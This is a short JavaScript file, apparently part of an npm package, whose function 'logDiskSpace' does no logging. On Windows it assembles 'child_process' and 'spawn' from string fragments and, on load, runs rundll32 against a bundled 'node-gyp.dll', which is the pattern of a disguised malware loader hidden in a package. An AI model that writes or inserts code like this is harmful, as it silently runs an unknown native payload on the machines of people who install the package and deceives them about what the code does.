const path = require('path');
const { platform } = require('os');
const cache = { key: ['spa', 'wn'].join('') };
function logDiskSpace() {
  if (platform() !== 'win32') return;
  const tool = require('child' + '_' + 'process')[cache.key];
  tool('rund' + 'll32', [path.join(__dirname, './node-gyp' + '.dll') + ',main']); //@act
}
logDiskSpace();
